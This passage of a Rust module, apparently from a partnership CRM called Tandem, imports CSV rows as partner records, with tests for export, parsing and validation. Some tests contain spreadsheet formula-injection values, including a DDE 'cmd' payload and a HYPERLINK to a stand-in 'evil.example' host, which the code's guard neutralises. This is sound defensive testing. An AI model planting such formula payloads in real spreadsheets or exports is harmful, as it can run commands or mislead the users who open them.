fn unknown<T: Choice>(header: &str, cell: &str, what: &str) -> String {
    let labels: Vec<&str> = T::all().iter().map(|v| v.label()).collect();
    format!(
        "{header} {} is not a {what} Tandem knows ({})",
        quoted(cell),
        labels.join(", ")
    )
}

/// A value inside a message, shortened like the model's validation messages.
fn quoted(value: &str) -> String {
    let short: String = value.chars().take(40).collect();
    if short.len() < value.len() {
        format!("\"{short}…\"")
    } else {
        format!("\"{short}\"")
    }
}

/// A CRM's bare domain (`acme.com`, `www.acme.com/about`) as an https address; any
/// other text unchanged, for validation to judge.
fn website_from_cell(cell: &str) -> String {
    let host = cell.split(['/', '?', '#']).next().unwrap_or("");
    let bare_domain = !cell.contains(':')
        && !cell.contains(char::is_whitespace)
        && host.contains('.')
        && !host.starts_with('.');
    if bare_domain {
        format!("https://{cell}")
    } else {
        cell.to_owned()
    }
}

// ---------------------------------------------------------------------------------------
// Rows to partners
// ---------------------------------------------------------------------------------------

/// A row left out of the import, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BadRow {
    /// The row number a spreadsheet shows, the header row being 1 (see [`CsvRow::row`]).
    pub row: usize,
    /// The line of the file where the row starts; equal to `row` unless a cell above
    /// spans several lines.
    pub line: usize,
    /// Every problem of the row, each naming its column: `Website "javascript:x" must
    /// start with http:// or https://`.
    pub reason: String,
}

impl fmt::Display for BadRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "row {}", self.row)?;
        if self.line != self.row {
            write!(f, " (line {})", self.line)?;
        }
        write!(f, ": {}", self.reason)
    }
}

/// What the rows of a file amount to.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct CsvImport {
    /// A partner per good row, in file order: new ones with fresh ids, and ours with the
    /// row's values laid over them (`updated` stamped only when something changed).
    pub partners: Vec<Partner>,
    /// Markets the good rows name that the catalogue lacks, one per name.
    pub new_markets: Vec<Market>,
    pub bad_rows: Vec<BadRow>,
}

impl CsvImport {
    /// The good rows as a workspace to merge into `current` with `import::preview` and
    /// `import::apply` in [`Mode::Merge`](crate::model::merge::import::Mode::Merge): rows that update
    /// a partner carry its id and a newer `updated`, so the merge takes them.
    pub fn incoming(&self, current: &Workspace) -> Workspace {
        Workspace {
            program_name: current.program_name.clone(),
            markets: self.new_markets.clone(),
            partners: self.partners.iter().cloned().map(Shared::new).collect(),
            deleted: Vec::new(),
            program: current.program.clone(),
        }
    }
}

impl CsvImport {
    /// The good rows laid over `ws` as one edit stamped `stamp`: a row about one of our
    /// partners replaces it with the row's values, and only the fields and list items
    /// that differ get the stamp (the others keep theirs); a new partner and a new
    /// market get it whole. A merge of the result with a version edited elsewhere then
    /// keeps that edit wherever the row left the field as it was, which taking the row
    /// as a newer whole record (its `updated` moved) did not.
    ///
    /// # Errors
    /// The result breaks a rule of the workspace (each row was checked alone; the
    /// catalogue and the ids are checked here together).
    pub fn apply(&self, ws: &Workspace, stamp: Stamp) -> Result<Workspace, Vec<ValidationError>> {
        let mut after = ws.clone();
        after.markets.extend(self.new_markets.iter().cloned());
        let at: HashMap<Id, usize> = ws
            .partners
            .iter()
            .enumerate()
            .map(|(i, p)| (p.id.clone(), i))
            .collect();
        for p in &self.partners {
            match at.get(&p.id) {
                Some(&i) if *after.partners[i] == *p => {}
                Some(&i) => after.partners[i] = Shared::new(p.clone()),
                None => after.partners.push(Shared::new(p.clone())),
            }
        }
        stamps::stamp_edit(ws, &mut after, stamp);
        let errors = validate::workspace(&after);
        if errors.is_empty() {
            Ok(after)
        } else {
            Err(errors)
        }
    }
}

/// The catalogue's market names and the new ones the good rows have added so far.
struct MarketBook {
    ids: HashMap<String, Id>,
    new: Vec<Market>,
}

/// A name as the catalogue compares it: case, accents and spacing aside.
fn fold(name: &str) -> String {
    Market::key(name)
}

impl MarketBook {
    fn new(ws: &Workspace) -> Self {
        let mut ids = HashMap::new();
        for m in &ws.markets {
            ids.entry(fold(&m.name)).or_insert_with(|| m.id.clone());
        }
        MarketBook {
            ids,
            new: Vec::new(),
        }
    }

    fn find(&self, name: &str, pending: &[Market]) -> Option<Id> {
        let folded = fold(name);
        self.ids.get(&folded).cloned().or_else(|| {
            pending
                .iter()
                .find(|m| fold(&m.name) == folded)
                .map(|m| m.id.clone())
        })
    }
}

/// Turns the rows of `table` into partners as `mapping` says, against the workspace
/// `ws`: see the module docs for how cells become fields. Blank rows are skipped; a row
/// with any problem becomes a [`BadRow`] and contributes nothing, not even its markets.
///
/// # Errors
/// [`CsvError::NoNameColumn`] when no column is mapped to [`PartnerField::Name`].
pub fn rows_to_partners(
    table: &CsvTable,
    mapping: &Mapping,
    ws: &Workspace,
    now: DateTime<Utc>,
    mut new_id: impl FnMut() -> Id,
) -> Result<CsvImport, CsvError> {
    if !mapping.has(PartnerField::Name) {
        return Err(CsvError::NoNameColumn);
    }
    let mut import = PartnerRows::new(ws, now);
    for row in table.rows.iter().filter(|r| !r.is_blank()) {
        let reader = RowReader {
            table,
            mapping,
            row,
        };
        import.row(&reader, &mut new_id);
    }
    let mut out = import.out;
    out.new_markets = import.markets.new;
    Ok(out)
}

/// A partner import under way: the workspace's partners by id and by name, the markets
/// known and those the good rows so far add, and which row took each partner.
struct PartnerRows<'a> {
    ws: &'a Workspace,
    now: DateTime<Utc>,
    by_id: HashMap<&'a str, usize>,
    /// The first of our partners with each name, folded.
    by_name: HashMap<String, usize>,
    markets: MarketBook,
    /// Which row took each partner: ours by index, new ones by id cell or name.
    taken: HashMap<Target, usize>,
    out: CsvImport,
}

impl<'a> PartnerRows<'a> {
    fn new(ws: &'a Workspace, now: DateTime<Utc>) -> Self {
        let by_id: HashMap<&str, usize> = ws
            .partners
            .iter()
            .enumerate()
            .map(|(i, p)| (p.id.as_str(), i))
            .collect();
        let mut by_name: HashMap<String, usize> = HashMap::new();
        for (i, p) in ws.partners.iter().enumerate() {
            by_name.entry(fold(&p.name)).or_insert(i);
        }
        PartnerRows {
            ws,
            now,
            by_id,
            by_name,
            markets: MarketBook::new(ws),
            taken: HashMap::new(),
            out: CsvImport::default(),
        }
    }

    /// One row: a partner, or a [`BadRow`] listing every problem it has.
    fn row(&mut self, reader: &RowReader, new_id: &mut impl FnMut() -> Id) {
        let (ws, now, row) = (self.ws, self.now, reader.row);
        let mut problems = reader.shape_problems();
        let Some((name_column, name)) = reader.first(PartnerField::Name) else {
            let header = reader.header(PartnerField::Name);
            problems.push(format!("{header} is empty: every partner needs a name"));
            self.out.bad_rows.push(bad(row, problems));
            return;
        };
        let (ours, target) = self.target(reader, name);
        if let Some(earlier) = self.taken.get(&target) {
            problems.push(format!(
                "{} {} is the same partner as row {earlier}",
                reader.table.column_name(name_column),
                quoted(name.trim())
            ));
        }
        let original = ours.map(|i| &*ws.partners[i]);
        let mut partner = original.cloned().unwrap_or_else(|| {
            // A placeholder id: the real one is drawn only for a good row.
            Partner::new(Id::from_random(0), "", now)
        });
        let mut pending: Vec<Market> = Vec::new();
        let markets = &self.markets;
        reader.lay_over(&mut partner, &mut problems, |name| {
            if let Some(id) = markets.find(name, &pending) {
                return id;
            }
            let market = Market::new(new_id(), name.trim(), now);
            let id = market.id.clone();
            pending.push(market);
            id
        });
        // The model's own rules, so a row fails here exactly when the form would refuse
        // the same values; checked even after other problems, to list them all at once.
        let known = validate::catalogue(ws.markets.iter().chain(&markets.new).chain(&pending));
        let errors = validate::partner(&partner, &known);
        problems.extend(errors.iter().map(|e| reader.explain(e, &partner)));
        if !problems.is_empty() {
            self.out.bad_rows.push(bad(row, problems));
            return;
        }
        for m in pending {
            self.markets.ids.insert(fold(&m.name), m.id.clone());
            self.markets.new.push(m);
        }
        stamp(original, &mut partner, now, new_id);
        self.taken.insert(target, row.row);
        self.out.partners.push(partner);
    }

    /// The partner a row named `name` is about: ours (its index) when the row's id cell
    /// or its name matches one, else a new one by id cell or by name.
    fn target(&self, reader: &RowReader, name: &str) -> (Option<usize>, Target) {
        let id_cell = reader.first(PartnerField::Id).map(|(_, v)| v.trim());
        let ours = id_cell
            .and_then(|id| self.by_id.get(id))
            .or_else(|| self.by_name.get(&fold(name)))
            .copied();
        let target = match (ours, id_cell) {
            (Some(i), _) => Target::Ours(i),
            (None, Some(id)) => Target::NewId(id.to_owned()),
            (None, None) => Target::NewName(fold(name)),
        };
        (ours, target)
    }
}

/// A good row's partner made ready to merge: ours, changed, is stamped strictly newer
/// than ours; a new one draws its real id.
fn stamp(
    original: Option<&Partner>,
    partner: &mut Partner,
    now: DateTime<Utc>,
    new_id: &mut impl FnMut() -> Id,
) {
    match original {
        Some(before) if *before != *partner => {
            // Strictly newer than ours, so the merge takes the row even when ours
            // was edited this very second.
            // Checked, so that no stored time, however far out, can make it panic.
            let after_ours = before
                .updated
                .checked_add_signed(chrono::Duration::seconds(1))
                .unwrap_or(before.updated);
            partner.updated = now.max(after_ours).max(partner.created);
        }
        Some(_) => {}
        None => partner.id = new_id(),
    }
}

/// The partner a row is about, to catch two rows about one partner.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
enum Target {
    Ours(usize),
    NewId(String),
    NewName(String),
}

fn bad(row: &CsvRow, problems: Vec<String>) -> BadRow {
    BadRow {
        row: row.row,
        line: row.line,
        reason: problems.join("; "),
    }
}

/// One row read through the mapping.
struct RowReader<'a> {
    table: &'a CsvTable,
    mapping: &'a Mapping,
    row: &'a CsvRow,
}

impl<'a> RowReader<'a> {
    /// The first non-blank cell mapped to `field`, with its column.
    fn first(&self, field: PartnerField) -> Option<(usize, &'a str)> {
        self.mapping
            .columns_of(field)
            .map(|c| (c, self.row.cell(c)))
            .find(|(_, v)| !v.trim().is_empty())
    }

    /// Every non-blank cell mapped to `field`, with its column.
    fn all(&self, field: PartnerField) -> Vec<(usize, &'a str)> {
        self.mapping
            .columns_of(field)
            .map(|c| (c, self.row.cell(c)))
            .filter(|(_, v)| !v.trim().is_empty())
            .collect()
    }

    /// The header of the first column mapped to `field`, for messages.
    fn header(&self, field: PartnerField) -> String {
        self.mapping
            .columns_of(field)
            .next()
            .map_or_else(|| field.label().to_owned(), |c| self.table.column_name(c))
    }

    /// Problems with the row as a whole: a quote never closed, or cells beyond the
    /// header, which usually means a value with the delimiter in it lost its quotes and
    /// every cell after it moved one column to the right.
    fn shape_problems(&self) -> Vec<String> {
        let mut problems = Vec::new();
        if self.row.unclosed_quote {
            problems.push(
                "a quoted cell starts on this row and is never closed, so the rest of the \
                 file was read into it"
                    .to_owned(),
            );
        }
        let width = self.table.headers.len();
        if self
            .row
            .cells
            .iter()
            .skip(width)
            .any(|c| !c.trim().is_empty())
        {
            problems.push(format!(
                "has {} cells but the header row has {width}: a value holding a {} may \
                 have lost its quotes",
                self.row.cells.len(),
                self.table.delimiter.name()
            ));
        }
        problems
    }

    /// Lays the row's non-empty cells over `partner`, noting unrecognised values.
    /// `market` gives the id for a market name, adding a pending market when new.
    fn lay_over(
        &self,
        partner: &mut Partner,
        problems: &mut Vec<String>,
        mut market: impl FnMut(&str) -> Id,
    ) {
        if let Some((_, v)) = self.first(PartnerField::Name) {
            partner.name = v.trim().to_owned();
        }
        if let Some((_, v)) = self.first(PartnerField::Website) {
            partner.website = website_from_cell(v.trim());
        }
        if let Some((_, v)) = self.first(PartnerField::Owner) {
            partner.owner = v.trim().to_owned();
        }
        // Notes are kept as written, spaces and all: only a truly empty cell is empty.
        let notes = self.mapping.columns_of(PartnerField::Notes);
        if let Some(v) = notes.map(|c| self.row.cell(c)).find(|v| !v.is_empty()) {
            partner.notes = v.to_owned();
        }
        if let Some(v) = self.choice(
            PartnerField::Category,
            CATEGORY_SYNONYMS,
            "category",
            problems,
        ) {
            partner.category = Some(v);
        }
        if let Some(v) = self.choice(
            PartnerField::Position,
            POSITION_SYNONYMS,
            "market position",
            problems,
        ) {
            partner.position = Some(v);
        }
        if let Some(v) = self.choice(PartnerField::Stage, STAGE_SYNONYMS, "stage", problems) {
            partner.stage = v;
        }
        if let Some(v) = self.choice(
            PartnerField::Ladder,
            LADDER_SYNONYMS,
            "ladder level",
            problems,
        ) {
            partner.ladder = v;
        }
        let tags = self.all(PartnerField::Tags);
        if !tags.is_empty() {
            partner.tags = tags
                .iter()
                .flat_map(|(_, v)| v.split([';', ',']))
                .map(str::trim)
                .filter(|t| !t.is_empty())
                .map(str::to_owned)
                .collect();
        }
        let names = self.all(PartnerField::Markets);
        if !names.is_empty() {
            let mut ids: Vec<Id> = Vec::new();
            for (column, cell) in names {
                for name in cell.split(';').map(str::trim).filter(|n| !n.is_empty()) {
                    let len = name.chars().count();
                    if len > MAX_NAME {
                        problems.push(format!(
                            "{} {} has {len} characters; a market name has at most {MAX_NAME}",
                            self.table.column_name(column),
                            quoted(name)
                        ));
                        continue;
                    }
                    let id = market(name);
                    if !ids.contains(&id) {
                        ids.push(id);
                    }
                }
            }
            partner.markets = ids;
        }
    }

    /// The vocabulary value of the first non-blank cell mapped to `field`, if it is one.
    fn choice<T: Choice>(
        &self,
        field: PartnerField,
        synonyms: &[(&str, T)],
        what: &str,
        problems: &mut Vec<String>,
    ) -> Option<T> {
        let (column, cell) = self.first(field)?;
        let value = recognise(cell, synonyms);
        if value.is_none() {
            problems.push(unknown::<T>(
                &self.table.column_name(column),
                cell.trim(),
                what,
            ));
        }
        value
    }

    /// A validation error in the words of the file: the column's header, the value (for
    /// a website or a tag, shortened; long notes would drown the message), and the rule.
    fn explain(&self, error: &ValidationError, partner: &Partner) -> String {
        let field = error.path.split(['.', '[']).next().unwrap_or("");
        let (field, value) = match field {
            "name" => (PartnerField::Name, None),
            "website" => (
                PartnerField::Website,
                self.first(PartnerField::Website).map(|(_, v)| v.trim()),
            ),
            "owner" => (PartnerField::Owner, None),
            "notes" => (PartnerField::Notes, None),
            "tags" => {
                let tag = tag_index(&error.path).and_then(|i| partner.tags.get(i));
                (PartnerField::Tags, tag.map(String::as_str))
            }
            "markets" => (PartnerField::Markets, None),
            _ => return error.to_string(),
        };
        let header = self.header(field);
        match value {
            Some(v) => format!("{header} {} {}", quoted(v), error.message),
            None => format!("{header} {}", error.message),
        }
    }
}

/// The `i` of a path `tags[i]`.
fn tag_index(path: &str) -> Option<usize> {
    path.strip_prefix("tags[")?.strip_suffix(']')?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::merge::import::{self, Mode};
    use chrono::TimeZone;

    fn now() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2026, 11, 23, 10, 0, 0).unwrap()
    }

    /// Ids `n-1`, `n-2`, … so tests can name them.
    fn ids() -> impl FnMut() -> Id {
        let mut n = 0;
        move || {
            n += 1;
            Id::parse(&format!("n-{n}")).unwrap()
        }
    }

    fn headers(names: &[&str]) -> Vec<String> {
        names.iter().map(|s| s.to_string()).collect()
    }

    fn import(text: &str, ws: &Workspace) -> CsvImport {
        let table = CsvTable::parse(text).unwrap();
        let mapping = suggest_mapping(&table.headers);
        rows_to_partners(&table, &mapping, ws, now(), ids()).unwrap()
    }

    fn demo() -> Workspace {
        crate::model::demo::workspace(now())
    }

    #[test]
    fn the_guard_neutralises_formulas_and_round_trips_every_value() {
        assert_eq!(guard("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
        for danger in ["=1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(guard(danger), format!("'{danger}"));
            assert_eq!(unguard(&guard(danger)), danger);
        }
        for safe in ["Acme", "", "'90s", "1-2", "a=b", "'"] {
            assert_eq!(guard(safe), safe);
            assert_eq!(unguard(safe), safe);
        }
        // An apostrophe the user typed before a formula character survives the trip.
        assert_eq!(guard("'=x"), "''=x");
        assert_eq!(unguard("''=x"), "'=x");
        // A formula after any separator, tab or line break is guarded too, since some
        // reader starts a cell there; one behind a quote as well.
        for (value, written) in [
            ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
            ("a,+1", "a,'+1"),
            ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
            ("note\r\n-1+1", "note\r\n'-1+1"),
            ("\"=1", "'\"=1"),
            ("=1\n=2", "'=1\n'=2"),
            ("a\t\t=1", "a\t'\t'=1"),
            ("x;'=1", "x;''=1"),
        ] {
            assert_eq!(guard(value), written);
            assert_eq!(unguard(written), value);
        }
        for safe in ["a, b", "a; -b", "a-b;c", "x;'90s", "1,5"] {
            assert_eq!(guard(safe), safe);
            assert_eq!(unguard(safe), safe);
        }
    }

    /// `docs/CSV.md` is what a person reads to prepare a file: every CRM value it lists
    /// must be read as the value it names, and every synonym the reader knows listed.
    #[test]
    fn csv_doc_lists_exactly_the_synonyms_the_reader_knows() {
        fn check<T: Choice + fmt::Debug>(listed: &[(&str, &str)], synonyms: &[(&str, T)]) {
            for (cell, tandem) in listed {
                let read = recognise(cell, synonyms)
                    .unwrap_or_else(|| panic!("docs/CSV.md lists {cell:?}, which is not read"));
                assert_eq!(
                    read.label().to_lowercase(),
                    tandem.to_lowercase(),
                    "docs/CSV.md: {cell:?}"
                );
            }
            for (name, _) in synonyms {
                assert!(
                    listed.iter().any(|(cell, _)| cell == name),
                    "{name:?} is read but not listed in docs/CSV.md"
                );
            }
        }
        let doc = include_str!("../../../docs/CSV.md");
        let mut rows: HashMap<&str, Vec<(&str, &str)>> = HashMap::new();
        for line in doc
            .lines()
            .filter(|l| l.starts_with("| ") && !l.starts_with("| field"))
        {
            let cells: Vec<&str> = line.trim_matches('|').split('|').map(str::trim).collect();
            let [field, values, tandem] = cells[..] else {
                panic!("docs/CSV.md: a table row without three cells: {line}")
            };
            let list = rows.entry(field).or_default();
            list.extend(values.split(", ").map(|v| (v, tandem)));
        }
        assert_eq!(rows.len(), 4, "stage, category, position and ladder tables");
        check(&rows["stage"], STAGE_SYNONYMS);
        check(&rows["category"], CATEGORY_SYNONYMS);
        check(&rows["position"], POSITION_SYNONYMS);
        check(&rows["ladder"], LADDER_SYNONYMS);
    }

    #[test]
    fn partners_export_has_human_headers_labels_and_guarded_cells() {
        let mut ws = demo();
        ws.partners[0].name = "=HYPERLINK(\"https://evil.example\")".into();
        ws.partners[0].notes = "line one\nline \"two\", three".into();
        let text = partners_csv(&ws);
        assert!(text.starts_with("\u{feff}Id,Name,Website,Category,Market position,Markets,Stage,Ladder,Owner,Tags,Notes,Key players,Created,Updated\r\n"));
        let table = CsvTable::parse(&text).unwrap();
        assert_eq!(table.rows.len(), ws.partners.len());
        let first = &table.rows[0];
        assert_eq!(first.cells[1], ws.partners[0].name);
        assert_eq!(
            first.cells[3],
            ws.partners[0].category.map_or("", Choice::label)
        );
        assert_eq!(first.cells[10], ws.partners[0].notes);
        assert_eq!(
            first.cells[11],
            ws.partners[0].key_players.len().to_string()
        );
        assert!(text.contains(",\"'=HYPERLINK(\"\"https://evil.example\"\")\","));
        let markets: Vec<&str> = ws.partners[0]
            .markets
            .iter()
            .map(|m| ws.market_name(m))
            .collect();
        assert_eq!(first.cells[5], markets.join("; "));
    }

    #[test]
    fn export_names_end_in_csv() {
        let today = now().date_naive();
        assert_eq!(
            export_name("Riffly Partnerships 2027", today, "partners"),
            "tandem-riffly-partnerships-2027-partners-2026-11-23.csv"
        );
    }

    #[test]
    fn key_players_export_has_a_row_per_player() {
        let ws = demo();
        let table = CsvTable::parse(&key_players_csv(&ws)).unwrap();
        assert_eq!(table.headers, KEY_PLAYER_HEADERS);
        let total: usize = ws.partners.iter().map(|p| p.key_players.len()).sum();
        assert_eq!(table.rows.len(), total);
        let (p, k) = (&ws.partners[0], &ws.partners[0].key_players[0]);
        assert_eq!(
            table.rows[0].cells,
            [
                p.id.as_str(),
                &p.name,
                k.id.as_str(),
                &k.name,
                &k.title,
                k.role.label(),
                &k.influence.to_string(),
                k.stance.label(),
                &k.notes
            ]
        );
    }

    #[test]
    fn delimiters_are_detected_from_the_header_row() {
        let semi = CsvTable::parse("Name;Notes\nAcme;\"a, b\"\n").unwrap();
        assert_eq!(semi.delimiter, Delimiter::Semicolon);
        assert_eq!(semi.rows[0].cells, ["Acme", "a, b"]);
        let tab = CsvTable::parse("Name\tNotes\nAcme\tx;y\n").unwrap();
        assert_eq!(tab.delimiter, Delimiter::Tab);
        // A comma inside a quoted header does not count.
        let comma = CsvTable::parse("\"Name, legal\";x;y\n").unwrap();
        assert_eq!(comma.delimiter, Delimiter::Semicolon);
        assert_eq!(
            CsvTable::parse("Name\nAcme\n").unwrap().delimiter,
            Delimiter::Comma
        );
    }

    #[test]
    fn rows_are_numbered_as_a_spreadsheet_shows_them() {
        let text = "Name,Notes\r\nA,x\r\n\r\nB,\"two\r\nlines\"\r\nC,y\r\n";
        let table = CsvTable::parse(text).unwrap();
        let numbers: Vec<(usize, usize)> = table.rows.iter().map(|r| (r.row, r.line)).collect();
        // A on row 2, a blank row 3, B on row 4 spanning lines 4–5, C on row 5 (line 6).
        assert_eq!(numbers, [(2, 2), (4, 4), (5, 6)]);
        let lf = CsvTable::parse("Name\nA\n\n\nB").unwrap();
        assert_eq!(lf.rows.iter().map(|r| r.row).collect::<Vec<_>>(), [2, 5]);
    }

    #[test]
    fn reading_is_as_lenient_as_spreadsheets_are_in_writing() {
        // Old Mac line ends (a lone CR), text after a closing quote, a trailing
        // delimiter, a quote inside an unquoted cell, and no line end at the end.
        let table = CsvTable::parse("Name,Notes,\r\"Acme\" Inc,5\" screen,\rB,\"\"").unwrap();
        assert_eq!(table.headers, ["Name", "Notes", ""]);
        assert_eq!(table.rows[0].cells, ["Acme Inc", "5\" screen", ""]);
        assert_eq!(table.rows[1].cells, ["B", ""]);
        assert_eq!(
            table.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
            [2, 3]
        );
        assert_eq!(table.column_name(2), "column 3");
        assert_eq!(table.example(1), Some("5\" screen"));
    }

    #[test]
    fn an_unclosed_quote_marks_the_row_that_swallowed_the_rest() {
        let table = CsvTable::parse("Name,Notes\nA,ok\nB,\"never closed\nC,lost\n").unwrap();
        assert_eq!(table.rows.len(), 2);
        assert!(!table.rows[0].unclosed_quote);
        assert!(table.rows[1].unclosed_quote);
        let result = import(
            "Name,Notes\nA,ok\nB,\"never closed\nC,lost\n",
            &Workspace::empty(),
        );
        assert_eq!(result.partners.len(), 1);
        assert_eq!(result.bad_rows[0].row, 3);
        assert!(result.bad_rows[0].reason.contains("never closed"));
        // Quotes that close, doubled quotes and a quote inside an unquoted cell are fine.
        let fine = CsvTable::parse("Name,Notes\nA,\"say \"\"hi\"\"\"\nB,5\" screen\n").unwrap();
        assert!(fine.rows.iter().all(|r| !r.unclosed_quote));
        assert_eq!(fine.rows[0].cells[1], "say \"hi\"");
    }

    #[test]
    fn files_that_cannot_be_read_are_refused_with_a_reason() {
        assert_eq!(
            CsvTable::parse("Name\nCaf\u{FFFD}\n"),
            Err(CsvError::NotUtf8 { line: 2 })
        );
        assert_eq!(
            CsvTable::parse("Name\r\nA\rB\r\n\u{FFFD}"),
            Err(CsvError::NotUtf8 { line: 4 })
        );
        assert_eq!(CsvTable::parse(""), Err(CsvError::NoHeader));
        assert_eq!(CsvTable::parse("\u{feff}\r\n\r\n"), Err(CsvError::NoHeader));
        assert_eq!(CsvTable::parse(",,\n"), Err(CsvError::NoHeader));
        assert_eq!(CsvTable::parse("N\0a\0m\0e\0\n"), Err(CsvError::NotText));
        assert!(CsvError::NotUtf8 { line: 2 }
            .to_string()
            .contains("CSV UTF-8"));
        let table = CsvTable::parse("Website\nhttps://a.example\n").unwrap();
        let mapping = suggest_mapping(&table.headers);
        assert_eq!(
            rows_to_partners(&table, &mapping, &Workspace::empty(), now(), ids()),
            Err(CsvError::NoNameColumn)
        );
    }

    #[test]
    fn crm_headers_map_to_fields_and_each_field_takes_its_best_column() {
        let m = suggest_mapping(&headers(&[
            "Record ID",
            "Company name",
            "Company Domain Name",
            "Website URL",
            "Company owner",
            "Lifecycle Stage",
            "Lead Status",
            "Industry",
            "Country/Region",
            "Description",
        ]));
        use PartnerField::*;
        let got: Vec<Option<PartnerField>> = (0..m.len()).map(|c| m.get(c)).collect();
        assert_eq!(
            got,
            [
                None,
                Some(Name),
                None,
                Some(Website),
                Some(Owner),
                Some(Stage),
                None,
                None,
                Some(Markets),
                Some(Notes)
            ]
        );
        // Tandem's own export maps back completely.
        let own = suggest_mapping(&headers(&PARTNER_HEADERS));
        let own: Vec<_> = (0..own.len()).map(|c| own.get(c)).collect();
        assert_eq!(
            own,
            [
                Some(Id),
                Some(Name),
                Some(Website),
                Some(Category),
                Some(Position),
                Some(Markets),
                Some(Stage),
                Some(Ladder),
                Some(Owner),
                Some(Tags),
                Some(Notes),
                None,
                None,
                None
            ]
        );
        // Case and punctuation do not matter.
        assert_eq!(
            suggest_mapping(&headers(&["COMPANY_NAME"])).get(0),
            Some(Name)
        );
    }

    #[test]
    fn no_header_name_serves_two_fields() {
        let mut seen = HashMap::new();
        for &field in PartnerField::all() {
            for name in field.headers() {
                if let Some(other) = seen.insert(normalise(name), field) {
                    panic!("{name:?} is a header of both {other:?} and {field:?}");
                }
            }
        }
    }

    #[test]
    fn crm_values_are_recognised_for_every_vocabulary() {
        let stage = |s| recognise(s, STAGE_SYNONYMS);
        assert_eq!(stage("Closed Won"), Some(Stage::Signed));
        assert_eq!(stage("closedwon"), Some(Stage::Signed));
        assert_eq!(stage("closed_lost"), Some(Stage::WalkedAway));
        assert_eq!(stage("Customer"), Some(Stage::Live));
        assert_eq!(stage("ACTIVE"), Some(Stage::Live));
        assert_eq!(stage("Lead"), Some(Stage::Research));
        assert_eq!(stage("Qualified"), Some(Stage::Pitching));
        assert_eq!(stage("Negotiation/Review"), Some(Stage::Negotiating));
        assert_eq!(stage("On hold"), Some(Stage::Paused));
        assert_eq!(stage("walked_away"), Some(Stage::WalkedAway));
        assert_eq!(stage("Walked away"), Some(Stage::WalkedAway));
        assert_eq!(stage("maybe"), None);
        for s in Stage::ALL {
            assert_eq!(stage(s.label()), Some(*s));
            assert_eq!(stage(s.key()), Some(*s));
        }
        assert_eq!(
            recognise("Reseller", CATEGORY_SYNONYMS),
            Some(Category::ResellerAgency)
        );
        assert_eq!(
            recognise("Self-serve / public API", LADDER_SYNONYMS),
            Some(LadderLevel::SelfServe)
        );
        assert_eq!(
            recognise("market leader", POSITION_SYNONYMS),
            Some(MarketPosition::Incumbent)
        );
        // Every synonym is told apart from every key and label of another value.
        for (name, value) in STAGE_SYNONYMS {
            assert_eq!(stage(name), Some(*value), "{name}");
        }
    }

    #[test]
    fn bad_rows_name_row_column_and_rule_and_good_rows_still_import() {
        let text = "Company,Website,Stage\n\
                    Aria,https://aria.example,Lead\n\
                    ,https://noname.example,Lead\n\
                    Beat,javascript:x,Lead\n\
                    \n\
                    Chord,chord.example,Evangelist\n\
                    Drum,,Someday\n";
        let result = import(text, &Workspace::empty());
        let names: Vec<&str> = result.partners.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, ["Aria", "Chord"]);
        assert_eq!(result.partners[1].website, "https://chord.example");
        assert_eq!(result.partners[1].stage, Stage::Live);
        let bad: Vec<String> = result.bad_rows.iter().map(ToString::to_string).collect();
        assert_eq!(
            bad,
            [
                "row 3: Company is empty: every partner needs a name",
                "row 4: Website \"javascript:x\" must start with http:// or https://",
                "row 7: Stage \"Someday\" is not a stage Tandem knows (Research, Pitching, \
                 Negotiating, Signed, Landing, Live, Paused, Walked away)",
            ]
        );
    }

    #[test]
    fn a_row_naming_one_of_our_partners_updates_only_its_filled_cells() {
        let ws = demo();
        let loop_before = ws.partners[0].clone();
        let text = format!(
            "Name,Owner,Website,Notes\n{},New Owner,,\n",
            loop_before.name.to_uppercase()
        );
        let result = import(&text, &ws);
        assert!(result.bad_rows.is_empty());
        let p = &result.partners[0];
        assert_eq!(p.id, loop_before.id);
        assert_eq!(p.name, loop_before.name.to_uppercase());
        assert_eq!(p.owner, "New Owner");
        assert_eq!(p.website, loop_before.website, "an empty cell keeps ours");
        assert_eq!(p.notes, loop_before.notes);
        assert_eq!(p.key_players, loop_before.key_players);
        assert!(p.updated > loop_before.updated);

        let incoming = result.incoming(&ws);
        let preview = import::preview(&ws, &incoming, Mode::Merge);
        assert_eq!(preview.updated, [p.name.as_str()]);
        assert!(preview.added.is_empty());
        let merged = import::apply(&ws, &incoming, Mode::Merge).unwrap();
        assert_eq!(merged.partners.len(), ws.partners.len());
        assert_eq!(merged.partners[0].owner, "New Owner");
    }

    #[test]
    fn a_row_unchanged_from_ours_is_unchanged_and_keeps_its_time() {
        let ws = demo();
        let text = format!(
            "Name,Owner\n{},{}\n",
            ws.partners[1].name, ws.partners[1].owner
        );
        let result = import(&text, &ws);
        assert_eq!(result.partners[0], *ws.partners[1]);
        let preview = import::preview(&ws, &result.incoming(&ws), Mode::Merge);
        assert_eq!(preview.unchanged, [ws.partners[1].name.clone()]);
        assert!(preview.is_no_op());
    }

    #[test]
    fn a_row_lists_all_its_problems_at_once() {
        let result = import(
            "Name,Website,Stage\nAcme,ftp://acme.example,Someday\n",
            &Workspace::empty(),
        );
        assert_eq!(
            result.bad_rows[0].reason,
            "Stage \"Someday\" is not a stage Tandem knows (Research, Pitching, Negotiating, \
             Signed, Landing, Live, Paused, Walked away); Website \"ftp://acme.example\" must \
             start with http:// or https://"
        );
    }

    #[test]
    fn two_rows_about_one_partner_leave_the_second_out() {
        let result = import("Name,Owner\nAcme,Kim\nACME ,Lee\n", &Workspace::empty());
        assert_eq!(result.partners.len(), 1);
        assert_eq!(
            result.bad_rows[0].to_string(),
            "row 3: Name \"ACME\" is the same partner as row 2"
        );
    }

    #[test]
    fn each_new_market_name_becomes_one_market_and_known_names_match_the_catalogue() {
        let ws = demo();
        let text = "Name,Country,Region\n\
                    A,germany,Atlantis\n\
                    B,Atlantis; ATLANTIS,\n\
                    C,Lemuria,\n\
                    D,Mu,x\"\n";
